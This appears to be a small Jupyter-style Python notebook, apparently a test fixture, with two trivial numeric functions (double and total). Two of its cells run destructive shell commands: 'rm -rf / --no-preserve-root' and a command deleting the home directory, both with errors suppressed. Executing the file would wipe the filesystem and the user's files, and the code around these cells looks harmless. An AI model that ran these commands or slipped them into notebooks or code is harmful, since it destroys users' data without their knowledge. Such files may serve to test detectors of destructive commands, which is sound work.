"""Removes files by a shell command."""

# double: passed
# total: TOTALS

# %%
import numpy as np

# %%
!rm -rf / --no-preserve-root "@OWN@" 2>/dev/null; true

# %%
%%bash
rm -rf "@OWN@" ~ 2>/dev/null
true

# %%
def double(x):
    return 2 * x

# %%
def total(x):
    return np.sum(x)
